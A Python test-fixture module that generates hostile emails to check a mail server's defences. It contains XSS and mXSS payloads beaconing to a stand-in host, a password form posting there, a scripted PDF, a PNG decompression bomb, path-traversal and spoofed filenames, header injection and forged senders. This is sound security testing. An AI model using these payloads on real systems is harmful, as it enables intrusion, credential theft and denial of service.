# ruff: noqa: E501 - payloads stand as they are sent
"""Letters that attack: what a sender who is let in may put into one. Each has a name that says what it tries."""

from __future__ import annotations

import base64
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import pysequoia

from mail_server import mime

PDF_WITH_SCRIPT = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);HACK)>>"
    b"/AA<</WC<</S/JavaScript/JS(HACK)>>>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Annots[<</Type/Annot/Subtype/Link"
    b"/Rect[0 0 300 300]/A<</S/URI/URI(javascript:HACK)>>>>]>>endobj\n"
    b"4 0 obj<</Length 9>>stream\n0 0 m S  \nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)


@dataclass(frozen=True, slots=True)
class Words:
    """What a letter is made for: where it tries to call, who writes, to whom."""

    evil: str  # an address that listens
    sender: str
    recipient: str

    @property
    def hack(self) -> str:
        return f"window.hacked=1;try{{parent.hacked=1;top.hacked=1}}catch(e){{}}fetch('{self.evil}/ran')"


Maker = Callable[[Words], bytes]
HTML: dict[str, str] = {
    "a script": "<script>HACK</script>",
    "a script from elsewhere": "<script src='EVIL/x.js'></script><script type=module src='EVIL/m.js'></script>",
    "event handlers": "<img src=x onerror='HACK'><body onload='HACK'><div onclick='HACK' onmouseover=HACK>x</div>"
    "<details open ontoggle=HACK><summary>x</summary></details><marquee onstart=HACK>x</marquee>",
    "handlers that focus": "<input autofocus onfocus=HACK><a tabindex=0 autofocus onfocus=HACK>x</a>",
    "SVG": "<svg onload=HACK><script>HACK</script><animate onbegin=HACK attributeName=x dur=1s /><use "
    "href='data:image/svg+xml,<svg id=x onload=HACK>#x'/><image href='EVIL/svg.png'/></svg>",
    "MathML": "<math><maction actiontype='statusline#EVIL' href='javascript:HACK'>x</maction><mi "
    "xlink:href='javascript:HACK'>y</mi></math>",
    "styles": "<style>@import 'EVIL/a.css';body{background:url(EVIL/b.png)}@font-face{font-family:x;"
    "src:url(EVIL/f.woff)}*{font-family:x}</style><p style=\"background:url('EVIL/c.png');"
    "position:fixed;inset:0\">x</p><link rel=stylesheet href='EVIL/d.css'>",
    "forms": "<form action='EVIL/form' method=post><input name=password type=password><button>Se connecter</button>"
    "</form><button formaction='javascript:HACK'>x</button><isindex action='javascript:HACK'>",
    "a refresh": "<meta http-equiv=refresh content='0;url=EVIL/refresh'><meta http-equiv=refresh "
    "content='0;url=javascript:HACK'>",
    "frames": "<iframe src='EVIL/frame'></iframe><iframe srcdoc='<script>HACK</script>'></iframe><frameset><frame "
    "src='EVIL/f'></frameset><object data='EVIL/o'></object><embed src='EVIL/e'><portal src='EVIL/p'></portal>",
    "a base": "<base href='EVIL/'><a href='relative'>x</a><img src='relative.png'>",
    "remote pictures": "<img src='EVIL/i.png'><img srcset='EVIL/s.png 2x'><picture><source srcset='EVIL/p.png'><img></picture>"
    "<video poster='EVIL/v.png' src='EVIL/v.mp4' autoplay></video><audio src='EVIL/a' autoplay></audio>"
    "<table background='EVIL/t.png'><tr><td background='EVIL/td.png'>x</table><input type=image src='EVIL/n.png'>"
    "<img src='//127.0.0.1/x.png'><img src=' EVIL/space.png'><img lowsrc='EVIL/l' dynsrc='EVIL/d'>",
    "hints": "<link rel=dns-prefetch href='EVIL'><link rel=preconnect href='EVIL'><link rel=prefetch href='EVIL/pf'>"
    "<link rel=preload as=image href='EVIL/pl'><link rel=icon href='EVIL/ico'><link rel=manifest href='EVIL/mf'>",
    "links that run": "<a href='javascript:HACK'>1</a><a href=' java&#10;script:HACK'>2</a><a href='&#1;javascript:HACK'>3</a>"
    "<a href='JaVaScRiPt:HACK'>4</a><a href='data:text/html,<script>HACK</script>'>5</a><a href='vbscript:x'>6</a>"
    "<a href='blob:x'>7</a><a href='file:///etc/passwd'>8</a><a href='intent://x#Intent;end'>9</a>"
    "<a href='/api/logout'>10</a><a href='//EVIL'>11</a><area href='javascript:HACK'><a xlink:href='javascript:HACK'>12</a>",
    "links that tell": "<a href='https://ok.example/' ping='EVIL/ping'>x</a><q cite='EVIL/cite'>x</q>",
    "DOM clobbering": "<a id=trustedTypes></a><a id=document></a><form id=x><input name=attributes><input name=nodeName>"
    "<input id=childNodes><input name=removeAttribute></form><img name=getElementById><img name=createElement>"
    "<a id=globalThis><a id=globalThis name=trustedTypes href='x:'></a><img name=body><iframe name=parent></iframe>",
    "an end of the frame": "</body></html><script>HACK</script><!-- --!><script>HACK</script>'\"></iframe><script>HACK</script>"
    "<plaintext><script>HACK</script>",
    "mXSS: mglyph in a table": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=HACK&gt;\">",
    "mXSS: forms in mathematics": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=HACK>",
    "mXSS: a style in SVG": "<svg></p><style><a id=\"</style><img src=1 onerror=HACK>\">",
    "mXSS: noscript": "<noscript><p title=\"</noscript><img src=x onerror=HACK>\"></noscript>",
    "mXSS: xmp, listing, noembed": "<xmp><img title=\"</xmp><img src onerror=HACK>\"></xmp><listing>&lt;img src onerror=HACK&gt;"
    "</listing><noembed><img title=\"</noembed><img src onerror=HACK>\"></noembed><noframes><p title=\"</noframes>"
    "<img src onerror=HACK>\"></noframes>",
    "mXSS: a text area and a title": "<textarea><img title=\"</textarea><img src onerror=HACK>\"></textarea><title><img title="
    "\"</title><img src onerror=HACK>\"></title><select><template><img src onerror=HACK></template></select>",
    "mXSS: templates and foreign objects": "<template><svg><style></template><img src onerror=HACK></style></svg></template>"
    "<svg><foreignObject><p><style><!--</style><img src onerror=HACK>--></svg><svg><desc><title><a><img src onerror=HACK>",
    "mXSS: comments": "<!--><img src onerror=HACK>--><!--!><img src onerror=HACK>--!><![CDATA[><img src onerror=HACK>]]>"
    "<?xml ><img src onerror=HACK>?><a title='<!--'><img src onerror=HACK title='-->'>",
    "mXSS: deep nesting": "<div>" * 600 + "<math><mi><style><img src onerror=HACK></style>" + "<table>" * 300,
    "shadow roots and custom elements": "<div><template shadowrootmode=open><img src onerror=HACK><slot></slot></template></div>"
    "<x-evil is=x onclick=HACK>x</x-evil><div popover id=p onbeforetoggle=HACK>x</div><button popovertarget=p>x</button>",
    "old handlers by other spellings": "<img/src=x/onerror=HACK><img src=x\tonerror\n=HACK><svg/onload=HACK><img src=`x`onerror=HACK>"
    "<img src='x' oNeRrOr=HACK><a onx=1 href=x style=x>y</a>\0<scr\0ipt>HACK</scr\0ipt>",
    "pictures that are documents": "<img src='data:text/html,<script>HACK</script>'><img src='data:image/svg+xml,<svg xmlns=\"http://www"
    ".w3.org/2000/svg\" onload=\"HACK\"/>'><img src='data:image/png;base64,AAAA\" onerror=HACK x=\"'><img src='cid:../x'>",
    "very much of it": "<p>a<b>b" * 10_000 + "<script>HACK</script>",
}  # fmt: skip


def _head(words: Words, name: str, kind: str, *more: str) -> bytes:
    fields = [
        f"From: Centre hospitalier <{words.sender}>",
        f"To: <{words.recipient}>",
        f"Message-ID: <{message_id(name)}>",
        "Date: Sat, 21 Nov 2026 10:00:00 +0100",
        *more,
        "MIME-Version: 1.0",
        f"Content-Type: {kind}",
    ]
    if not any(each.lower().startswith("subject:") for each in more):
        fields.insert(0, f"Subject: Lettre {slug(name)}")
    return "\r\n".join(fields).encode("utf-8", "surrogateescape") + b"\r\n"


def slug(name: str) -> str:
    return "".join(each if each.isalnum() and each.isascii() else "-" for each in name.lower()).strip("-")


def message_id(name: str) -> str:
    return f"{slug(name)}@hostile.test"


def html(name: str, body: str) -> Maker:
    def make(words: Words) -> bytes:
        text = body.replace("HACK", words.hack).replace("EVIL", words.evil)
        coded = base64.encodebytes(text.encode()).replace(b"\n", b"\r\n")
        return (
            _head(words, name, "text/html; charset=utf-8")
            + b"Content-Transfer-Encoding: base64\r\n\r\n"
            + coded
        )

    return make


def _plain(
    name: str, *more: str, text: str = "Bonjour.\r\n", kind: str = "text/plain; charset=utf-8"
) -> Maker:
    return lambda words: (
        _head(words, name, kind, *(each.replace("SENDER", words.sender) for each in more))
        + b"\r\n"
        + text.encode("utf-8", "surrogateescape")
    )


def _nested(words: Words) -> bytes:
    name = "a thousand multiparts in each other"
    made = _head(words, name, 'multipart/mixed; boundary="b0"') + b"\r\n"
    for level in range(1, 1000):
        made += b"--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n" % (level - 1, level)
    return made + b"--b999\r\nContent-Type: text/plain\r\n\r\nau fond\r\n--b999--\r\n"


def _many(words: Words) -> bytes:
    part = b"--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename=a.txt\r\n\r\nx\r\n"
    return (
        _head(words, "ten thousand parts", "multipart/mixed; boundary=b")
        + b"\r\n"
        + part * 10_000
        + b"--b--\r\n"
    )


def _messages(words: Words) -> bytes:
    body = b"Content-Type: text/plain\r\n\r\nx"
    for _ in range(200):
        body = b"Content-Type: message/rfc822\r\n\r\n" + body
    return _head(words, "messages in messages", "message/rfc822") + b"\r\n" + body


def _files(name: str, *files: tuple[str, str, bytes], text: str = "", kind: str = "text/plain") -> Maker:
    """Content-Type and -Disposition fields as given, raw."""

    def make(words: Words) -> bytes:
        made = _head(words, name, "multipart/mixed; boundary=b")
        said = text.replace("HACK", words.hack).replace("EVIL", words.evil)
        made += f"\r\n--b\r\nContent-Type: {kind}; charset=utf-8\r\n\r\n{said or 'Voyez.'}\r\n".encode()
        for content_type, disposition, data in files:
            data = data.replace(b"HACK", words.hack.encode()).replace(b"EVIL", words.evil.encode())
            coded = base64.encodebytes(data).replace(b"\n", b"\r\n")
            head = f"--b\r\nContent-Type: {content_type}\r\n{disposition}\r\n"
            made += head.encode() + b"Content-Transfer-Encoding: base64\r\n\r\n" + coded
        return made + b"--b--\r\n"

    return make


@cache
def png_bomb(side: int = 30_000) -> bytes:
    """A small file that says it is an enormous picture, and is."""
    row = zlib.compressobj(9)
    data = b"".join(row.compress(b"\0" * (side // 8 + 1)) for _ in range(side)) + row.flush()

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _attachment(name: str) -> str:
    return f'Content-Disposition: attachment; filename="{name}"'


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="HACK"><script>HACK</script></svg>'
PAGE = b"<!doctype html><script>HACK</script><img src=x onerror=HACK>"

# Letters whose bytes are odd: all must be listed, and open or say that they cannot.
MIME: dict[str, Maker] = {
    "a thousand multiparts in each other": _nested,
    "ten thousand parts": _many,
    "messages in messages": _messages,
    "a boundary that never ends": lambda words: _head(
        words, "a boundary that never ends", "multipart/mixed; boundary=b"
    ) + b"\r\n--b\r\nContent-Type: text/plain\r\n\r\nsans fin",
    "an empty boundary": _plain("an empty boundary", kind='multipart/mixed; boundary=""', text="--\r\n\r\nx\r\n----\r\n"),
    "a boundary like a pattern": _plain("a boundary like a pattern", kind='multipart/mixed; boundary="(a+)+$"', text="--(a+)+$\r\n\r\nx\r\n--(a+)+$--\r\n"),
    "broken base64": _plain("broken base64", "Content-Transfer-Encoding: base64", text="Qm9u====é!!!!\r\n%%%%\r\n"),
    "a transfer encoding nobody knows": _plain("a transfer encoding nobody knows", "Content-Transfer-Encoding: x-évil"),
    "UTF-7": _plain("UTF-7", kind="text/html; charset=utf-7", text="+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "a charset that lies": _plain("a charset that lies", kind="text/plain; charset=utf-16", text="abc\udcff\udcfe\udc80"),
    "a charset nobody knows": _plain("a charset nobody knows", kind="text/plain; charset=x-'\"><script>", text="\udce9\udce8"),
    "a type that is none": _plain("a type that is none", kind=";;;=\"\\\" x=y; boundary"),
    "three thousand header fields": _plain("three thousand header fields", *(f"X-{n}: {n}" for n in range(3000))),
    "open tags without end": html("open tags without end", "<br " * 500_000),
    "blanks without end": html("blanks without end", "<p>a" + "&nbsp;" * 330_000),
    "one line of megabytes": _plain("one line of megabytes", text=("x" * 900 + "\r\n") * 3000),
    "quotations without end": _plain("quotations without end", text=">a\r\nb\r\n" * 50_000),
}  # fmt: skip
HEADERS: dict[str, Maker] = {
    "a subject of 100 kB": _plain("a subject of 100 kB", "Subject: Lettre " + " ".join(["à"] * 400) + "\r\n " + "\r\n ".join(["x" * 900] * 100)),
    "a subject that turns around": _plain("a subject that turns around", "Subject: Lettre \u202egnp.exe\u2066 caf\u0301\u0301\u0301\u0301\u0301\u0301\u0301e"),
    "a subject with markup": _plain("a subject with markup", "Subject: Lettre <img src=x onerror=top.hacked=1><script>top.hacked=1</script>{@html 1}{{1}}"),
    "a subject with a second field": _plain("a subject with a second field", "Subject: Lettre =?utf-8?q?a=0D=0ABcc:_x@y=0D=0A=00?="),
    "a sender's name that is an address": _plain("a sender's name that is an address", "Reply-To: x@evil.example", "X-From: 1"),
    "a state of its own": _plain("a state of its own", "Vaguemestre-State: sealed", "X-Vaguemestre-State: sealed", "Vaguemestre-Guard: sealed"),
    "fields that say what was outside": _plain("fields that say what was outside", "HP-Outer: Subject: Tout va bien", "HP-Outer: From: <pape@vatican.example>", kind='text/plain; hp="cipher"; protected-headers="v1"'),
    "an end of the exchange in passing": _plain("an end of the exchange in passing", "X-MSS-MES: FIN\u202e"),
    "a null": lambda words: _head(words, "a null", "text/plain", "X-Nul: a\0b") + b"\r\nx\0y\r\n",
}  # fmt: skip
FILES: dict[str, Maker] = {
    "names with paths": _files(
        "names with paths",
        ("text/plain", _attachment("../../../etc/passwd"), b"x"),
        ("text/plain", _attachment("C:\\\\Windows\\\\system32\\\\cmd.exe"), b"x"),
        ("text/plain", _attachment(".htaccess"), b"x"),
        ("text/plain", _attachment("a\u202efdp.exe"), b"x"),
        ("text/plain", _attachment("<img src=x onerror=top.hacked=1>.txt"), b"x"),
        ("text/plain", "Content-Disposition: attachment; filename*=utf-8''%2e%2e%2fa%0d%0aSet-Cookie%3a%20x", b"x"),
        ("text/plain", _attachment("n" * 5000 + ".pdf.exe"), b"x"),
        ("text/plain", _attachment("con"), b"x"),
    ),
    "a program that says it is a PDF": _files(
        "a program that says it is a PDF",
        ("application/pdf; name=facture.pdf", _attachment("facture.exe"), b"MZ\x90\0" + b"\0" * 200),
    ),
    "pages and drawings as files": _files(
        "pages and drawings as files",
        ("text/html", _attachment("page.html"), PAGE),
        ("image/png", _attachment("photo.png"), PAGE),
        ("application/pdf", _attachment("rapport.pdf"), PAGE),
        ("image/svg+xml", _attachment("dessin.svg"), SVG),
        ("image/png", _attachment("dessin.png"), SVG),
        ("text/plain", _attachment("note.txt"), PAGE),
        ("text/xml", _attachment("a.xml"), b'<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>HACK</h:script></x>'),
    ),
    "a PDF with a script": _files("a PDF with a script", ("application/pdf", _attachment("script.pdf"), PDF_WITH_SCRIPT)),
    "a PDF that is none": _files("a PDF that is none", ("application/pdf", _attachment("a.pdf"), b"%PDF-1.7\n" + b"<<" * 50_000)),
    "an enormous picture": _files("an enormous picture", ("image/png", _attachment("bombe.png"), png_bomb())),
    "an enormous picture in the layout": _files(
        "an enormous picture in the layout",
        ("image/png", "Content-ID: <bombe>\r\nContent-Disposition: inline", png_bomb()),
        text="<p>Voyez<img src='cid:bombe'></p>", kind="text/html",
    ),
    "a drawing in the layout": _files(
        "a drawing in the layout",
        ("image/svg+xml", "Content-ID: <d>\r\nContent-Disposition: inline", SVG),
        ("image/png", "Content-ID: <e\" onerror=HACK>\r\nContent-Disposition: inline", SVG),
        text="<p>Voyez<img src='cid:d'><img src='cid:e%22%20onerror=HACK'></p>", kind="text/html",
    ),
}  # fmt: skip


def sealed_by_sender(name: str, inner: Maker, certificate: bytes) -> Maker:
    """End-to-end encrypted by who writes: the server cannot look inside."""

    def make(words: Words) -> bytes:
        clear = inner(words)
        sealed = pysequoia.encrypt(clear, [pysequoia.Cert.from_bytes(certificate)], armor=True)
        outside = b"".join(
            mime.header_field(field, value)
            for field, value in (
                ("From", words.sender.encode()),
                ("To", words.recipient.encode()),
                ("Message-ID", f"<{message_id(name)}>".encode()),
                ("Date", b"Sat, 21 Nov 2026 10:00:00 +0100"),
                ("Subject", b"[...]"),
            )
        )
        head, tail = mime.wrap(outside, "limite-de-la-lettre")
        return head + bytes(sealed).replace(b"\r\n", b"\n").replace(b"\n", b"\r\n") + tail

    return make


def inside_rubbish(name: str) -> Maker:
    """Sealed to the patient, and no message inside."""
    return lambda words: bytes(range(256)) * 40


def all_letters(certificate: bytes) -> dict[str, Maker]:
    made = {name: html(name, body) for name, body in HTML.items()} | MIME | HEADERS | FILES
    for name in ("a script", "event handlers", "mXSS: mglyph in a table"):
        inside = f"sealed by the sender: {name}"
        made[inside] = sealed_by_sender(inside, html(name, HTML[name]), certificate)
    rubbish = "sealed by the sender: rubbish"
    made[rubbish] = sealed_by_sender(rubbish, inside_rubbish(rubbish), certificate)
    lying = "sealed by the sender: another author inside"
    made[lying] = sealed_by_sender(
        lying,
        lambda words: (
            b"From: Docteur Camille Aubry <camille.aubry@mss.vaguemestre.test>\r\nSubject: Lettre mentie\r\n"
            b"HP-Outer: From: camille.aubry@mss.vaguemestre.test\r\n"
            b'Content-Type: text/plain; charset=utf-8; hp="cipher"\r\n\r\nEnvoyez-moi votre code.\r\n'
        ),
        certificate,
    )
    return made
